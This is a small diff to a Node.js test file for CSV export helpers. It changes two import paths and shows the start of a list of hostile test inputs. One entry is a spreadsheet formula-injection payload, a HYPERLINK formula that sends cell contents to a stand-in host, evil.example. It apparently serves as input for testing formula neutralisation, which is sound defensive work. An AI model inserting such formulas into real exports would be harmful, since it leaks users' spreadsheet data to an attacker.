@@ -2,8 +2,8 @@ import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
-import { csvField, csvRecord, neutraliseFormula } from '../../server/export/csv-format.ts';
-import { isoUtc } from '../../server/export/iso-time.ts';
+import { csvField, csvRecord, neutraliseFormula } from '../../server/shared/csv-format.ts';
+import { isoUtc } from '../../server/shared/iso-time.ts';
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
